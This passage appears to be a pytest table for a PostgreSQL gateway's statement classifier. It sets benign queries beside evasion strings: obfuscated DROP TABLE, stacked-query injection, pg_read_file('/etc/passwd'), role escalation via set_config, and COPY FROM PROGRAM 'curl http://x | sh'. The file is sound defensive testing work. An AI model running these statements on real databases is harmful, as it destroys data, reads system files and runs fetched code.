"""Table-driven classification of PostgreSQL statements: kinds, classes, built-in rule hits.

Each row is (sql, kind, classes, built-in rules). Multi-statement rows use " | " between the
expectations of each statement. Evasions sit next to the benign look-alikes that must pass.
"""

# ruff: noqa: E501  (one table row per line reads better than the formatter's layout)
from __future__ import annotations

import pytest

from gateway.policy.classify import classify_text

Row = tuple[str, str, str, str]

# fmt: off
BENIGN_READS: list[Row] = [
    # array casts to types sqlglot does not know (asyncpg's type introspection)
    ('SELECT t.oid FROM pg_type t WHERE t.oid = any($1::oid[])', 'SELECT', 'read', ''),
    ("SELECT CAST('{}' AS regclass[])", 'SELECT', 'read', ''),
    ('SELECT 1', 'SELECT', 'read', ''),
    ('select 1;', 'SELECT', 'read', ''),
    ('SELECT abalance FROM pgbench_accounts WHERE aid = 12345;', 'SELECT', 'read', ''),
    ("SELECT * FROM t WHERE a = 'x' AND b = 2", 'SELECT', 'read', ''),
    ("SELECT 'DROP DATABASE prod'", 'SELECT', 'read', ''),
    ("SELECT 'DELETE FROM t; DROP TABLE t'", 'SELECT', 'read', ''),
    ('SELECT $$DROP TABLE t$$', 'SELECT', 'read', ''),
    ('SELECT $tag$ DROP TABLE t; $tag$', 'SELECT', 'read', ''),
    ("SELECT E'it\\'s; DROP TABLE t'", 'SELECT', 'read', ''),
    ('SELECT "drop table" FROM t', 'SELECT', 'read', ''),
    ('SELECT "DELETE" FROM "TRUNCATE"', 'SELECT', 'read', ''),
    ('SELECT drop_count, delete_flag, truncated FROM stats', 'SELECT', 'read', ''),
    ('SELECT * FROM drop_log WHERE deleted = false', 'SELECT', 'read', ''),
    ('SELECT pg_read_file_count FROM metrics', 'SELECT', 'read', ''),
    ('SELECT 1 -- DROP TABLE t', 'SELECT', 'read', ''),
    ('SELECT 1 /* ; DROP TABLE t; */', 'SELECT', 'read', ''),
    ('SELECT /* /* nested */ DROP TABLE t; */ 1', 'SELECT', 'read', ''),
    ('SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t', 'SELECT', 'read', ''),
    ('SELECT rank() OVER w FROM t WINDOW w AS (ORDER BY a)', 'SELECT', 'read', ''),
    ('SELECT sum(x) OVER (ORDER BY d ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM t', 'SELECT', 'read', ''),
    ("SELECT a->>'b', a->'c', a #> '{x,y}', a #>> '{x}' FROM t", 'SELECT', 'read', ''),
    ('SELECT * FROM t WHERE doc @> \'{"k": 1}\' AND doc ? \'k\'', 'SELECT', 'read', ''),
    ("SELECT * FROM t WHERE doc ?| array['a','b'] AND doc ?& array['c']", 'SELECT', 'read', ''),
    ("SELECT jsonb_path_query(doc, '$.a[*]') FROM t", 'SELECT', 'read', ''),
    ('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r', 'SELECT', 'read', ''),
    ('WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT * FROM b', 'SELECT', 'read', ''),
    ('WITH a AS MATERIALIZED (SELECT 1) SELECT * FROM a', 'SELECT', 'read', ''),
    ('SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b DESC', 'SELECT', 'read', ''),
    ('SELECT count(*) FILTER (WHERE a > 1) FROM t', 'SELECT', 'read', ''),
    ('SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a) FROM t', 'SELECT', 'read', ''),
    ('SELECT a FROM t GROUP BY GROUPING SETS ((a), ())', 'SELECT', 'read', ''),
    ('SELECT * FROM t, LATERAL (SELECT 1) s', 'SELECT', 'read', ''),
    ('SELECT * FROM generate_series(1, 10) WITH ORDINALITY', 'SELECT', 'read', ''),
    ('SELECT * FROM t TABLESAMPLE SYSTEM (10)', 'SELECT', 'read', ''),
    ('SELECT * FROM t FOR UPDATE SKIP LOCKED', 'SELECT', 'read', ''),
    ('SELECT a FROM t FETCH FIRST 10 ROWS ONLY', 'SELECT', 'read', ''),
    ('SELECT * FROM t LIMIT 10 OFFSET 20', 'SELECT', 'read', ''),
    ('SELECT $1::int, $2::text', 'SELECT', 'read', ''),
    ("SELECT CAST(a AS int), a::text, a ILIKE 'x%', a ~ 'y' FROM t", 'SELECT', 'read', ''),
    ('SELECT ARRAY[1, 2][1], a[1:2] FROM t', 'SELECT', 'read', ''),
    ("SELECT now() - interval '1 day', current_date, current_user", 'SELECT', 'read', ''),
    ('SELECT x FROM t UNION ALL SELECT y FROM u', 'SELECT', 'read', ''),
    ('(SELECT 1) UNION (SELECT 2)', 'SELECT', 'read', ''),
    ('SELECT 1 INTERSECT SELECT 1 EXCEPT SELECT 2', 'SELECT', 'read', ''),
    ("VALUES (1, 'a'), (2, 'b')", 'VALUES', 'read', ''),
    ('TABLE t', 'SELECT', 'read', ''),
    ('SELECT * FROM "Payroll" p JOIN hr.salaries s ON p.id = s.id', 'SELECT', 'read', ''),
    ('SELECT U&"d\\0061ta" FROM t', 'SELECT', 'read', ''),
    ("SELECT U&'d\\0061ta'", 'SELECT', 'read', ''),
    ('SELECT U&"d!0061ta" UESCAPE \'!\' FROM t', 'SELECT', 'read', ''),
    ('SELECT * FROM t WHERE a IS NOT DISTINCT FROM b', 'SELECT', 'read', ''),
    ("SELECT current_setting('work_mem')", 'SELECT', 'read', ''),
    ("SELECT currval('seq'), lastval()", 'SELECT', 'read', ''),
    ("SELECT pg_logical_slot_peek_changes('slot', NULL, NULL)", 'SELECT', 'read', ''),
    ("SELECT 'a' 'b'", 'SELECT', 'read', ''),
    ("SELECT E'a\\'b'", 'SELECT', 'read', ''),
    ("SELECT 'a',\n'b'", 'SELECT', 'read', ''),
    ('SELECT pg_sleep(0)', 'SELECT', 'read', ''),
    ('SELECT 1 FROM t t1 LEFT OUTER JOIN u ON true', 'SELECT', 'read', ''),
    ('SELECT count(*) FROM pg_stat_activity', 'SELECT', 'read', ''),
    ('SeLeCt 1 FrOm t', 'SELECT', 'read', ''),
    ('  \n\tSELECT\n1\n', 'SELECT', 'read', ''),
]

EVASIONS: list[Row] = [
    ('/**/DROP/**/TABLE t', 'DROP TABLE', 'ddl', 'drop_table'),
    ('-- comment\nDROP TABLE t', 'DROP TABLE', 'ddl', 'drop_table'),
    ('/* a /* nested */ b */ DROP TABLE t', 'DROP TABLE', 'ddl', 'drop_table'),
    ('DrOp TaBlE t', 'DROP TABLE', 'ddl', 'drop_table'),
    ('drop\ttable\nt', 'DROP TABLE', 'ddl', 'drop_table'),
    ('DROP TABLE "t"', 'DROP TABLE', 'ddl', 'drop_table'),
    ('DROP TABLE U&"\\0074"', 'DROP TABLE', 'ddl', 'drop_table'),
    # standard_conforming_strings: the backslash does not escape the quote
    ("SELECT 'a\\'; DROP TABLE t; --'", 'SELECT | DROP TABLE', 'read | ddl', ' | drop_table'),
    ('SELECT 1; DROP DATABASE prod', 'SELECT | DROP DATABASE', 'read | ddl', ' | drop_database'),
    ('SELECT 1;DELETE FROM t', 'SELECT | DELETE', 'read | write', ' | delete_without_where'),
    ("SELECT pg_read_file('/etc/passwd')", 'SELECT', 'read,file', 'file_access'),
    ("SELECT PG_READ_FILE('/etc/passwd')", 'SELECT', 'read,file', 'file_access'),
    ('SELECT "pg_read_file"(\'/etc/passwd\')', 'SELECT', 'read,file', 'file_access'),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", 'SELECT', 'read,file', 'file_access'),
    ("SELECT pg_read_file /* x */ ('/etc/passwd')", 'SELECT', 'read,file', 'file_access'),
    ("SELECT * FROM pg_ls_dir('.')", 'SELECT', 'read,file', 'file_access'),
    ("SELECT pg_read_binary_file('x'), pg_stat_file('y')", 'SELECT', 'read,file', 'file_access'),
    ("SELECT lo_import('/etc/passwd')", 'SELECT', 'read,file', 'file_access'),
    ("SELECT lo_export(1234, '/tmp/x')", 'SELECT', 'read,file', 'file_access'),
    ("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", 'SELECT', 'read,dynamic', ''),
    ("SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)", 'SELECT', 'read,dynamic', ''),
    ("SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", 'SELECT', 'read,dynamic', ''),
    ("SELECT table_to_xml('payroll', true, false, '')", 'SELECT', 'read,dynamic', ''),
    # contrib functions that run SQL text, or read a table named by a string
    ("SELECT * FROM crosstab('SELECT 1, 2, set_config(''role'', ''x'', false)') AS c(a text, b text)", 'SELECT', 'read,dynamic', ''),
    ("SELECT * FROM connectby('pg_authid', 'oid', 'oid', '1', 0) AS t(a oid, b oid, c int)", 'SELECT', 'read,dynamic', ''),
    ("SELECT * FROM xpath_table('id', 'doc', 'pg_authid', '/x', 'true') AS t(id int, x text)", 'SELECT', 'read,dynamic', ''),
    ("SELECT run_command_on_all_nodes('DROP TABLE t')", 'SELECT', 'read,dynamic', ''),
    ('SELECT pg_terminate_backend(123)', 'SELECT', 'read,admin', 'kill'),
    ('SELECT pg_cancel_backend(pid) FROM pg_stat_activity', 'SELECT', 'read,admin', 'kill'),
    ('SELECT pg_reload_conf()', 'SELECT', 'read,admin', ''),
    ("SELECT set_config('role', 'admin', false)", 'SELECT', 'read,privilege', ''),
    ("SELECT set_config('session_authorization', 'postgres', false)", 'SELECT', 'read,privilege', ''),
    ("SELECT set_config('ROLE', 'admin', false)", 'SELECT', 'read,privilege', ''),
    ("SELECT set_config(E'rol\\x65', 'admin', false)", 'SELECT', 'read,privilege', ''),
    ('SELECT set_config($1, $2, false)', 'SELECT', 'read,privilege', ''),
    ("SELECT set_config('work_mem', '64MB', false)", 'SELECT', 'read,session', ''),
    ("SELECT set_config('standard_conforming_strings', 'off', false)", 'SELECT', 'read,privilege', ''),
    ("SELECT setval('s', 1)", 'SELECT', 'read,write', ''),
    # nextval advances the sequence for good (a rollback does not undo it)
    ("SELECT nextval('seq')", 'SELECT', 'read,write', ''),
    ("SELECT nextval('orders_id_seq')", 'SELECT', 'read,write', ''),
    ("SELECT pg_catalog.NEXTVAL('s')", 'SELECT', 'read,write', ''),
    # consuming a logical slot's changes takes them from every later reader
    ("SELECT pg_logical_slot_get_changes('slot', NULL, NULL)", 'SELECT', 'read,admin', ''),
    ("SELECT * FROM pg_logical_slot_get_binary_changes('slot', NULL, NULL)", 'SELECT', 'read,admin', ''),
]

LOOK_INSIDE: list[Row] = [
    ('EXPLAIN SELECT * FROM t', 'EXPLAIN', 'read', ''),
    ('EXPLAIN DELETE FROM t', 'EXPLAIN', 'read', ''),
    ('EXPLAIN VERBOSE DELETE FROM t', 'EXPLAIN', 'read', ''),
    ('EXPLAIN ANALYZE SELECT * FROM t', 'SELECT', 'read', ''),
    # planning runs code: EXECUTE's arguments, stable functions of constants
    ("EXPLAIN EXECUTE p(nextval('s')::text)", 'EXPLAIN', 'read,write', ''),
    ("EXPLAIN (FORMAT JSON) EXECUTE p(set_config('role', 'x', false))", 'EXPLAIN', 'read,privilege', ''),
    ("EXPLAIN EXECUTE p(pg_read_file('/etc/hostname'))", 'EXPLAIN', 'read,file', 'file_access'),
    ("EXPLAIN SELECT * FROM pg_class WHERE relname = table_to_xml('hr.payroll', true, false, '')::text", 'EXPLAIN', 'read,dynamic', ''),
    ('EXPLAIN ANALYZE DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN ANALYSE DELETE FROM t WHERE id = 1', 'DELETE', 'write', ''),
    ('EXPLAIN VERBOSE ANALYZE UPDATE t SET a = 1', 'UPDATE', 'write', 'update_without_where'),
    ('EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (ANALYZE true, FORMAT json) INSERT INTO t VALUES (1)', 'INSERT', 'write', ''),
    ('EXPLAIN (analyze) delete from t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (FORMAT json) DELETE FROM t', 'EXPLAIN', 'read', ''),
    ("EXPLAIN ANALYZE SELECT pg_read_file('x')", 'SELECT', 'read,file', 'file_access'),
    ('EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'SELECT', 'read,write', 'delete_without_where'),
    ('EXPLAIN garbage', 'UNKNOWN', 'unknown', ''),
    # A: EXPLAIN option names are identifiers; one the gateway does not know counts as ANALYZE
    ('EXPLAIN ("analyze") DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (U&"analyze", costs off) DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (U&"an!0061lyze" UESCAPE \'!\') DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ("EXPLAIN (\"analyze\") SELECT set_config('role','low',false)", 'SELECT', 'read,privilege', ''),
    ("EXPLAIN (\"analyze\") SELECT lo_import('/etc/hostname', 4242)", 'SELECT', 'read,file', 'file_access'),
    ('PREPARE p AS EXPLAIN ("analyze") DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (analyse) DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN ("ANALYZE") DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (frobnicate) DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (costs off, "frob") DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('EXPLAIN (ANALYZE false) SELECT 1', 'SELECT', 'read', ''),  # any ANALYZE counts as on
    ('EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1', 'DELETE', 'write', ''),
    ('EXPLAIN (COSTS off) SELECT 1', 'EXPLAIN', 'read', ''),
    ('EXPLAIN (COSTS off) DELETE FROM t', 'EXPLAIN', 'read', ''),
    ('EXPLAIN ("costs" false, verbose, FORMAT json) DELETE FROM t', 'EXPLAIN', 'read', ''),
    ('EXPLAIN (VERBOSE, SETTINGS, GENERIC_PLAN, BUFFERS, WAL, TIMING, SUMMARY, MEMORY, SERIALIZE text) DELETE FROM t', 'EXPLAIN', 'read', ''),
    ('EXPLAIN () DELETE FROM t', 'UNKNOWN', 'unknown', ''),
    ('EXPLAIN (costs,) DELETE FROM t', 'UNKNOWN', 'unknown', ''),
    ("EXPLAIN ('analyze') DELETE FROM t", 'UNKNOWN', 'unknown', ''),
    ('EXPLAIN (costs (off)) DELETE FROM t', 'UNKNOWN', 'unknown', ''),
    ('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'SELECT', 'read,write', 'delete_without_where'),
    ('WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', 'SELECT', 'read,write', ''),
    ('WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u', 'SELECT', 'read,write', 'update_without_where'),
    ('WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i', 'SELECT', 'read,write', ''),
    ('WITH s AS (SELECT 1) INSERT INTO t SELECT * FROM s', 'INSERT', 'write', ''),
    ('WITH x AS (SELECT id FROM a) DELETE FROM b WHERE id IN (SELECT id FROM x)', 'DELETE', 'write', ''),
    ('SELECT * INTO new_table FROM t', 'SELECT INTO', 'ddl,write', ''),
    ('SELECT a, b INTO TEMP tmp FROM t WHERE a > 1', 'SELECT INTO', 'ddl,write', ''),
    ('CREATE TABLE x AS SELECT * FROM t', 'CREATE TABLE', 'ddl,read,write', ''),
    ('CREATE TEMP TABLE x AS SELECT 1', 'CREATE TABLE', 'ddl,read,write', ''),
    ('CREATE TABLE x AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'CREATE TABLE', 'ddl,read,write', 'delete_without_where'),
    ('CREATE MATERIALIZED VIEW mv AS SELECT * FROM t', 'CREATE MATERIALIZED VIEW', 'ddl,read,write', ''),
    ('CREATE VIEW v AS SELECT * FROM t', 'CREATE VIEW', 'ddl', ''),
    ('CREATE OR REPLACE VIEW v AS SELECT a FROM t', 'CREATE VIEW', 'ddl', ''),
    ('DECLARE c CURSOR FOR SELECT * FROM t', 'SELECT', 'read', ''),
    ("DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT pg_read_file('x')", 'SELECT', 'read,file', 'file_access'),
    ('FETCH 10 FROM c', 'FETCH', 'read', ''),
    ('MOVE NEXT IN c', 'MOVE', 'read', ''),
    ('CLOSE c', 'CLOSE', 'read', ''),
    ('DO $$BEGIN DELETE FROM t; END$$', 'DO', 'dynamic', ''),
    ('DO LANGUAGE plpgsql $$BEGIN NULL; END$$', 'DO', 'dynamic', ''),
    ("do 'begin perform 1; end'", 'DO', 'dynamic', ''),
    ('CALL refresh_stats()', 'CALL', 'dynamic', ''),
]

COPY: list[Row] = [
    ('COPY t TO STDOUT', 'COPY', 'read,export', 'copy_to_stdout'),
    ('COPY t TO stdout WITH (FORMAT csv, HEADER)', 'COPY', 'read,export', 'copy_to_stdout'),
    ('COPY public.t (a, b) TO STDOUT', 'COPY', 'read,export', 'copy_to_stdout'),
    ('COPY (SELECT * FROM t) TO STDOUT', 'COPY', 'read,export', 'copy_to_stdout'),
    ('COPY (DELETE FROM t RETURNING *) TO STDOUT', 'COPY', 'write,export', 'copy_to_stdout,delete_without_where'),
    ("COPY (SELECT pg_read_file('x')) TO STDOUT", 'COPY', 'read,export,file', 'copy_to_stdout,file_access'),
    ('COPY t FROM STDIN', 'COPY', 'write,import', ''),
    ('COPY t (a, b) FROM STDIN WITH CSV', 'COPY', 'write,import', ''),
    ('COPY BINARY t FROM STDIN', 'COPY', 'write,import', ''),
    ("COPY t TO '/tmp/out.csv'", 'COPY', 'read,export,file', 'file_access'),
    ("COPY t FROM '/etc/passwd'", 'COPY', 'write,import,file', 'file_access'),
    ("COPY t FROM E'/etc/passwd'", 'COPY', 'write,import,file', 'file_access'),
    ("COPY t FROM PROGRAM 'curl http://x | sh'", 'COPY', 'write,import,file', 'copy_program,file_access'),
    ("COPY t TO PROGRAM 'gzip > /tmp/x.gz'", 'COPY', 'read,export,file', 'copy_program,file_access'),
    ("COPY (SELECT 1) TO PROGRAM 'id'", 'COPY', 'read,export,file', 'copy_program,file_access'),
    ("copy t to program 'id'", 'COPY', 'read,export,file', 'copy_program,file_access'),
    ('COPY t FROM STDOUT', 'UNKNOWN', 'unknown', ''),
    ('COPY t', 'UNKNOWN', 'unknown', ''),
]

DML_DDL: list[Row] = [
    ('INSERT INTO t VALUES (1)', 'INSERT', 'write', ''),
    ('INSERT INTO t (a) SELECT a FROM u', 'INSERT', 'write', ''),
    ('INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1', 'INSERT', 'write', ''),
    ('INSERT INTO t VALUES (1) RETURNING *', 'INSERT', 'write', ''),
    ('UPDATE t SET a = 1', 'UPDATE', 'write', 'update_without_where'),
    ('UPDATE t SET a = 1 WHERE id = 5', 'UPDATE', 'write', ''),
    ('UPDATE t SET a = 1 WHERE true', 'UPDATE', 'write', 'update_without_where'),
    ('UPDATE t SET a = u.a FROM u WHERE t.id = u.id', 'UPDATE', 'write', ''),
    ('DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('DELETE FROM t WHERE id = 1', 'DELETE', 'write', ''),
    ('DELETE FROM t WHERE 1 = 1', 'DELETE', 'write', 'delete_without_where'),
    ("DELETE FROM t WHERE 'a' = 'a'", 'DELETE', 'write', 'delete_without_where'),
    ('DELETE FROM t USING u WHERE t.id = u.id', 'DELETE', 'write', ''),
    ('delete from t where id in (select id from u)', 'DELETE', 'write', ''),
    ('MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN UPDATE SET b = 1', 'MERGE', 'write', ''),
    ('MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE', 'MERGE', 'write', ''),
    ('TRUNCATE t', 'TRUNCATE', 'write', 'truncate'),
    ('TRUNCATE TABLE a, b RESTART IDENTITY CASCADE', 'TRUNCATE', 'write', 'truncate'),
    ('LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'LOCK', 'write', ''),
    ('REFRESH MATERIALIZED VIEW CONCURRENTLY mv', 'REFRESH MATERIALIZED VIEW', 'write', ''),
    ("NOTIFY chan, 'payload'", 'NOTIFY', 'write', ''),
    ("CREATE TABLE t (a int PRIMARY KEY, b text DEFAULT 'x')", 'CREATE TABLE', 'ddl', ''),
    ('CREATE TABLE IF NOT EXISTS t (a int GENERATED ALWAYS AS (b * 2) STORED, b int)', 'CREATE TABLE', 'ddl', ''),
    ('CREATE UNLOGGED TABLE t (a int)', 'CREATE TABLE', 'ddl', ''),
    ('CREATE TABLE t PARTITION OF p FOR VALUES FROM (1) TO (10)', 'CREATE TABLE', 'ddl', ''),
    ('CREATE INDEX CONCURRENTLY i ON t (a)', 'CREATE INDEX', 'ddl', ''),
    ('CREATE UNIQUE INDEX i ON t (lower(a))', 'CREATE INDEX', 'ddl', ''),
    ('CREATE SEQUENCE s START 1', 'CREATE SEQUENCE', 'ddl', ''),
    ('CREATE SCHEMA hr', 'CREATE SCHEMA', 'ddl', ''),
    ('CREATE DATABASE d', 'CREATE DATABASE', 'ddl', ''),
    ('CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql', 'CREATE FUNCTION', 'ddl', ''),
    ('CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN DELETE FROM t; END$$', 'CREATE FUNCTION', 'ddl', ''),
    ('CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'CREATE TRIGGER', 'ddl', ''),
    ("CREATE TYPE mood AS ENUM ('sad', 'ok')", 'CREATE TYPE', 'ddl', ''),
    ('CREATE EXTENSION dblink', 'CREATE EXTENSION', 'ddl,admin', ''),
    ('CREATE EXTENSION IF NOT EXISTS pg_trgm', 'CREATE EXTENSION', 'ddl,admin', ''),
    ('CREATE POLICY p ON t USING (true)', 'CREATE POLICY', 'ddl', ''),
    ('CREATE RULE r AS ON INSERT TO t DO INSTEAD (DELETE FROM u; INSERT INTO v VALUES (1))', 'CREATE RULE', 'ddl', ''),
    ('CREATE FOREIGN TABLE ft (a int) SERVER s', 'CREATE FOREIGN TABLE', 'ddl', ''),
    ('CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw', 'CREATE SERVER', 'ddl,admin', ''),
    ("CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'x')", 'CREATE OTHER', 'ddl', ''),
    ("CREATE TABLESPACE ts LOCATION '/data'", 'CREATE TABLESPACE', 'ddl,admin', ''),
    ('ALTER TABLE t ADD COLUMN c int', 'ALTER TABLE', 'ddl', ''),
    ("ALTER TABLE t ALTER c TYPE text USING pg_read_file('/etc/passwd')", 'ALTER TABLE', 'ddl,file', 'file_access'),
    ('ALTER TABLE t RENAME TO u', 'ALTER TABLE', 'ddl', ''),
    ('ALTER TABLE t OWNER TO bob', 'ALTER TABLE', 'ddl', ''),
    ('ALTER INDEX i RENAME TO j', 'ALTER INDEX', 'ddl', ''),
    ("ALTER DATABASE d SET work_mem = '1GB'", 'ALTER DATABASE', 'ddl', ''),
    ('DROP TABLE t', 'DROP TABLE', 'ddl', 'drop_table'),
    ('DROP TABLE IF EXISTS a, b CASCADE', 'DROP TABLE', 'ddl', 'drop_table'),
    ('DROP VIEW v', 'DROP VIEW', 'ddl', ''),
    ('DROP MATERIALIZED VIEW mv', 'DROP MATERIALIZED VIEW', 'ddl', ''),
    ('DROP INDEX CONCURRENTLY i', 'DROP INDEX', 'ddl', ''),
    ('DROP FUNCTION f(int)', 'DROP FUNCTION', 'ddl', ''),
    ('DROP SCHEMA s CASCADE', 'DROP SCHEMA', 'ddl', 'drop_schema'),
    ('DROP DATABASE d', 'DROP DATABASE', 'ddl', 'drop_database'),
    ('DROP DATABASE IF EXISTS d WITH (FORCE)', 'DROP DATABASE', 'ddl', 'drop_database'),
    ('DROP EXTENSION dblink', 'DROP EXTENSION', 'ddl,admin', ''),
    ('DROP TEXT SEARCH CONFIGURATION c', 'DROP OTHER', 'ddl', ''),
    ("COMMENT ON TABLE t IS 'x'", 'COMMENT', 'ddl', ''),
    ("SECURITY LABEL ON TABLE t IS 'x'", 'SECURITY LABEL', 'ddl', ''),
    ('IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y', 'IMPORT FOREIGN SCHEMA', 'ddl', ''),
]

DCL_ADMIN_SESSION: list[Row] = [
    ('GRANT SELECT ON t TO bob', 'GRANT', 'dcl', ''),
    ('GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO bob', 'GRANT', 'dcl', ''),
    ('GRANT admin TO bob', 'GRANT', 'dcl', ''),
    ('REVOKE ALL ON t FROM bob', 'REVOKE', 'dcl', ''),
    ('CREATE ROLE r LOGIN SUPERUSER', 'CREATE ROLE', 'dcl', ''),
    ("CREATE USER u WITH PASSWORD 'x'", 'CREATE USER', 'dcl', ''),
    ('CREATE GROUP g', 'CREATE GROUP', 'dcl', ''),
    ('ALTER ROLE r SUPERUSER', 'ALTER ROLE', 'dcl', ''),
    ("ALTER USER u WITH PASSWORD 'y'", 'ALTER USER', 'dcl', ''),
    ('ALTER ROLE r SET search_path = hr', 'ALTER ROLE', 'dcl', ''),
    ('DROP ROLE r', 'DROP ROLE', 'dcl', 'drop_role'),
    ('DROP USER IF EXISTS u', 'DROP USER', 'dcl', 'drop_role'),
    ('REASSIGN OWNED BY a TO b', 'REASSIGN OWNED', 'dcl', ''),
    ('DROP OWNED BY a', 'DROP OWNED', 'dcl', ''),
    ('ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO u', 'ALTER DEFAULT PRIVILEGES', 'dcl', ''),
    ("ALTER SYSTEM SET work_mem = '1GB'", 'ALTER SYSTEM', 'admin', 'alter_system'),
    ('ALTER SYSTEM RESET ALL', 'ALTER SYSTEM', 'admin', 'alter_system'),
    ('VACUUM', 'VACUUM', 'admin', ''),
    ('VACUUM FULL ANALYZE t', 'VACUUM', 'admin', ''),
    ('ANALYZE t', 'ANALYZE', 'admin', ''),
    ('ANALYSE VERBOSE t', 'ANALYZE', 'admin', ''),
    ('CLUSTER t USING i', 'CLUSTER', 'admin', ''),
    ('REINDEX TABLE t', 'REINDEX', 'admin', ''),
    ('CHECKPOINT', 'CHECKPOINT', 'admin', ''),
    ("LOAD 'auto_explain'", 'LOAD', 'admin', ''),
    ('SET ROLE admin', 'SET ROLE', 'privilege', ''),
    ('SET LOCAL ROLE admin', 'SET ROLE', 'privilege', ''),
    ('SET SESSION ROLE admin', 'SET ROLE', 'privilege', ''),
    ("SET role = 'admin'", 'SET ROLE', 'privilege', ''),
    ('SET "role" TO admin', 'SET ROLE', 'privilege', ''),
    ('SET SESSION AUTHORIZATION postgres', 'SET SESSION AUTHORIZATION', 'privilege', ''),
    ('SET SESSION AUTHORIZATION DEFAULT', 'SET SESSION AUTHORIZATION', 'privilege', ''),
    ('SET session_replication_role = replica', 'SET', 'privilege', ''),
    ('RESET ROLE', 'RESET', 'privilege', ''),
    ('RESET SESSION AUTHORIZATION', 'RESET', 'privilege', ''),
    ('RESET ALL', 'RESET', 'session', ''),
    ('RESET work_mem', 'RESET', 'session', ''),
    ('RESET "ROLE"', 'RESET', 'privilege', ''),
    ('RESET "Session_Authorization"', 'RESET', 'privilege', ''),
    ('RESET U&"rol!0065" UESCAPE \'!\'', 'RESET', 'privilege', ''),
    ('RESET myext.setting', 'RESET', 'session', ''),
    ('RESET TIME ZONE', 'RESET', 'session', ''),
    ('RESET TRANSACTION ISOLATION LEVEL', 'RESET', 'session', ''),
    # E: functions that change state or read server files
    ("SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, plainto_tsquery(''simple'', pg_read_file(''/etc/passwd''))')", 'SELECT', 'read,dynamic', ''),
    ("SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, set_config(''role'',''postgres'',false)::tsquery')", 'SELECT', 'read,dynamic', ''),
    ("SELECT pg_logical_emit_message(false, 'p', 'x')", 'SELECT', 'read,write', ''),
    ("SELECT brin_summarize_new_values('i'::regclass)", 'SELECT', 'read,write', ''),
    ("SELECT brin_summarize_range('i'::regclass, 0)", 'SELECT', 'read,write', ''),
    ("SELECT brin_desummarize_range('i'::regclass, 0)", 'SELECT', 'read,write', ''),
    ("SELECT gin_clean_pending_list('i'::regclass)", 'SELECT', 'read,write', ''),
    ("SELECT pg_replication_origin_create('o')", 'SELECT', 'read,admin', ''),
    ("SELECT pg_replication_origin_session_setup('o')", 'SELECT', 'read,admin', ''),
    ("SELECT pg_catalog.pg_replication_origin_some_future_one('o')", 'SELECT', 'read,admin', ''),
    ("SELECT pg_import_system_collations('public')", 'SELECT', 'read,admin', ''),
    ('SELECT pg_stat_reset_subscription_stats(NULL)', 'SELECT', 'read,admin', ''),
    ('SELECT * FROM pg_hba_file_rules()', 'SELECT', 'read,file', 'file_access'),
    ('SELECT * FROM pg_ident_file_mappings()', 'SELECT', 'read,file', 'file_access'),
    ('SELECT * FROM pg_show_all_file_settings()', 'SELECT', 'read,file', 'file_access'),
    ("SELECT ts_lexize('english_stem', 'stars'), to_tsquery('a & b')", 'SELECT', 'read', ''),
    ("SET work_mem = '64MB'", 'SET', 'session', ''),
    ('SET LOCAL statement_timeout TO 1000', 'SET', 'session', ''),
    ('SET search_path TO hr, public', 'SET', 'session', ''),
    ("SET TIME ZONE 'UTC'", 'SET', 'session', ''),
    ("SET application_name = 'psql'", 'SET', 'session', ''),
    ('SET extra_float_digits = 3', 'SET', 'session', ''),
    ("SET myapp.tenant = '42'", 'SET', 'session', ''),
    ('SET standard_conforming_strings = on', 'SET', 'session', ''),
    ('SET standard_conforming_strings = off', 'SET', 'privilege', ''),
    ("SET standard_conforming_strings TO 'off'", 'SET', 'privilege', ''),
    ("SET client_encoding = 'UTF8'", 'SET', 'session', ''),
